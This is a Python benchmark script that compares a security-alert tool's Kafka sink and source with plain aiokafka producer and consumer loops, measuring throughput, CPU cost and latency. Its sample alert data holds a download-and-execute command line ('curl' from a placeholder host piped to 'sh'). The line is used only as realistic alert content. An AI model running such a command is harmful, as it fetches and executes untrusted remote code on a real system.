"""Kafka: alerts a second through the sink and records a second through the source, beside plain loops over aiokafka.

    python -m benchmarks.kafka [--alerts 100000] [--rounds 5] [--only PART]

One real broker (from Maven), which shares the machine's cores with mozu. Rounds are interleaved: mozu, plain, mozu,
plain; the ratio is the median of the pairs. Latency: from the time of a real system call to the moment at which a
consumer has the alert, which is not before the broker could acknowledge it.
"""

import argparse
import asyncio
import json
import statistics
import tempfile
import time
from collections.abc import Callable, Coroutine
from pathlib import Path
from typing import Any, Final

import orjson
from aiokafka import AIOKafkaConsumer, AIOKafkaProducer

from benchmarks.delivery import NOTICES, Site, numbers
from benchmarks.latency import RULE, act, ready
from benchmarks.sinks import measure
from mozu.core.api import Demand
from mozu.core.delivery.encode.falco_json import FalcoJson
from mozu.core.runtime.loop import run as run_loop
from mozu.core.testing import alert, context
from mozu.plugins.sinks.kafka.settings import KafkaSettings
from mozu.plugins.sinks.kafka.sink import KafkaSink
from mozu.plugins.sources.kafka.settings import KafkaSourceSettings
from mozu.plugins.sources.kafka.source import KafkaSource
from tests.support.kafka.cluster import Cluster, cluster
from tests.support.kafka.console import create

_VALUES: Final = {"proc.cmdline": "bash -c 'curl http://example.com/x | sh'", "proc.name": "bash", "user.name": "root"}


class Names:
    """A new topic or group for each measurement."""

    def __init__(self, kafka: Cluster) -> None:
        self._kafka, self._made = kafka, 0

    def topic(self) -> str:
        """Create a topic with six partitions; return its name."""
        self._made += 1
        create(self._kafka, f"bench.{self._made}", partitions=6)
        return f"bench.{self._made}"


def _body() -> bytes:
    return FalcoJson().encode(alert("A shell was started", "Shell started in a container", **_VALUES))


async def plain_producer(kafka: Cluster, topic: str, count: int) -> float:
    """Alerts a second, encoded and sent with the settings that the sink has by default."""
    encoder = FalcoJson()
    alerts = [alert("A shell was started", "Shell started in a container", **_VALUES) for _ in range(count)]
    producer = AIOKafkaProducer(
        bootstrap_servers=kafka.servers, acks="all", enable_idempotence=True, compression_type="zstd",
        max_batch_size=256 << 10,
    )  # fmt: skip
    await producer.start()
    begin = time.perf_counter()
    for start in range(0, count, 500):
        sent = [await producer.send(topic, encoder.encode(item), b"host") for item in alerts[start : start + 500]]
        await asyncio.gather(*sent)
    seconds = time.perf_counter() - begin
    await producer.stop()
    return count / seconds


async def sink(kafka: Cluster, topic: str, count: int) -> float:
    """Alerts a second through a sink worker and the sink, encoding included."""
    settings = KafkaSettings(bootstrap_servers=tuple(kafka.servers), topic=topic)
    made = KafkaSink(settings, context(content_type="application/json"))
    assert await made.check() is None  # it is connected now, as the plain producer is
    return await measure(made, count, blocking=False)


async def plain_consumer(kafka: Cluster, topic: str, count: int) -> float:
    """Records a second, each parsed; offsets are committed after each batch."""
    consumer = AIOKafkaConsumer(
        topic, bootstrap_servers=kafka.servers, group_id=f"plain-{time.time_ns()}", enable_auto_commit=False,
        auto_offset_reset="earliest",
    )  # fmt: skip
    await consumer.start()
    seen, begin = 0, time.perf_counter()
    while seen < count:
        for records in (await consumer.getmany(timeout_ms=300, max_records=2000)).values():
            for record in records:
                orjson.loads(record.value)
            seen += len(records)
        await consumer.commit()
    seconds = time.perf_counter() - begin
    await consumer.stop()
    return count / seconds


async def source(kafka: Cluster, topic: str, count: int) -> float:
    """Records a second as events of mozu's source, each batch acknowledged."""
    settings = KafkaSourceSettings(
        bootstrap_servers=tuple(kafka.servers), topics=(topic,), group=f"mozu-{time.time_ns()}", alerts=False
    )
    made = KafkaSource(settings, context())
    await made.start(Demand())
    seen, begin = 0, 0.0
    async for batch in made.batches():
        begin = begin or time.perf_counter()
        seen += len(batch)
        await made.ack(batch)
        if seen >= count:
            seconds = time.perf_counter() - begin
            await made.stop()
    return count / seconds


Measured = Callable[[], Coroutine[Any, Any, float]]


def compared(name: str, mozu: Measured, plain: Measured, count: int, rounds: int) -> None:
    """A row: medians, the median ratio of the pairs, and what one costs."""
    pairs = [(_timed(mozu, count), _timed(plain, count)) for _ in range(rounds)]
    ours, theirs = (statistics.median(rate for rate, _ in side) for side in zip(*pairs, strict=True))
    our_cpu, their_cpu = (statistics.median(cpu for _, cpu in side) for side in zip(*pairs, strict=True))
    ratios = [one / other for (one, _), (other, _) in pairs]
    spread = f"{statistics.median(ratios):.2f} ({min(ratios):.2f} … {max(ratios):.2f})"
    print(f"| {name} | {ours:,.0f} | {theirs:,.0f} | {spread} | {our_cpu:.1f} | {their_cpu:.1f} |", flush=True)


def _timed(measured: Measured, count: int) -> tuple[float, float]:
    """A second, and microseconds of this process's CPU for each, preparation included."""
    before = time.process_time()
    rate = run_loop(measured())
    return rate, (time.process_time() - before) / count * 1e6


def throughput(kafka: Cluster, names: Names, count: int, rounds: int) -> None:
    """Sink and source beside plain loops."""
    print("| | mozu | plain aiokafka | ratio | mozu, CPU µs | plain, CPU µs |", flush=True)
    print("|---|---:|---:|---:|---:|---:|", flush=True)
    there = names.topic()
    compared(
        f"sink, alerts/s ({len(_body())} bytes each)",
        lambda: sink(kafka, there, count), lambda: plain_producer(kafka, there, count), count, rounds,
    )  # fmt: skip
    full = names.topic()
    run_loop(plain_producer(kafka, full, count))
    compared(
        "source, records/s",
        lambda: source(kafka, full, count), lambda: plain_consumer(kafka, full, count), count, rounds,
    )  # fmt: skip


def whole(kafka: Cluster, names: Names, count: int) -> None:
    """Through all of `mozu run`, with and without a spool."""
    print("\n| mozu run | alerts/s | CPU µs an alert |\n|---|---:|---:|", flush=True)
    with tempfile.TemporaryDirectory() as folder:
        site = Site(Path(folder))
        for spooled in (False, True):
            spool = f", spool: {{path: {folder}/s.db}}" if spooled else ""
            servers = json.dumps(kafka.servers)
            text = f"kafka: {{bootstrap_servers: {servers}, topic: {names.topic()}, format: json{spool}}}"
            process = site.start(numbers(text, count))
            _, log = process.communicate()
            found = site.statistics()
            assert found["sinks"]["kafka"]["delivered"] == count + NOTICES, log
            rate, cpu = count / found["seconds"], found["cpu_seconds"] / count * 1e6
            print(f"| {'with' if spooled else 'without'} a spool | {rate:,.0f} | {cpu:.0f} |", flush=True)


async def follow(kafka: Cluster, topic: str, expected: int, ready: asyncio.Event) -> list[float]:
    """Milliseconds from each alert's event to its arrival here."""
    consumer: Any = AIOKafkaConsumer(topic, bootstrap_servers=kafka.servers, fetch_max_wait_ms=100)
    await consumer.start()
    await consumer.seek_to_end()
    ready.set()
    taken: list[float] = []
    try:
        async with asyncio.timeout(120):
            while len(taken) < expected:
                record = await consumer.getone()
                taken.append((time.time_ns() - json.loads(record.value)["output_fields"]["evt.time"]) / 1e6)
    finally:
        await consumer.stop()
    return taken


def latency(kafka: Cluster, names: Names) -> None:
    """Measure at two rates, with and without a spool."""
    print("\n| alerts/s | spool | p50 | p99 | alerts |\n|---:|---|---:|---:|---:|", flush=True)
    for rate, seconds in ((10, 20), (1_000, 10)):
        for spooled in (False, True):
            taken = timed(kafka, names.topic(), rate, rate * seconds, spooled=spooled)
            cuts, kept = statistics.quantiles(taken, n=100), "yes" if spooled else "no"
            print(f"| {rate} | {kept} | {cuts[49]:.0f} ms | {cuts[98]:.0f} ms | {len(taken)} |", flush=True)


def timed(kafka: Cluster, topic: str, rate: int, count: int, *, spooled: bool) -> list[float]:
    """Milliseconds from system calls to a consumer."""
    with tempfile.TemporaryDirectory() as folder:
        site = Site(Path(folder))
        (Path(folder) / "rules.yaml").write_text(RULE.format(match=f"startswith {folder}/made"))
        spool = f", spool: {{path: {folder}/s.db}}" if spooled else ""
        text = f"kafka: {{bootstrap_servers: {json.dumps(kafka.servers)}, topic: {topic}, format: json{spool}}}"
        process = site.start(f"sinks:\n  - {text}\n", "-r", f"{folder}/rules.yaml")
        ready(process)

        async def run() -> list[float]:
            listening = asyncio.Event()
            following = asyncio.ensure_future(follow(kafka, topic, count, listening))
            await listening.wait()
            await asyncio.to_thread(act, Path(folder), rate, count)
            return await following

        taken = asyncio.run(run())
        process.terminate()
        process.communicate()
        return taken


def main() -> None:
    """Run all parts, or one."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--alerts", type=int, default=100_000)
    parser.add_argument("--rounds", type=int, default=5)
    parser.add_argument("--only", choices=("throughput", "whole", "latency"))
    options = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder, cluster(Path(folder), heap="512m") as kafka:
        names = Names(kafka)
        if options.only in (None, "throughput"):
            throughput(kafka, names, options.alerts, options.rounds)
        if options.only in (None, "whole"):
            whole(kafka, names, options.alerts)
        if options.only in (None, "latency"):
            latency(kafka, names)


if __name__ == "__main__":
    main()
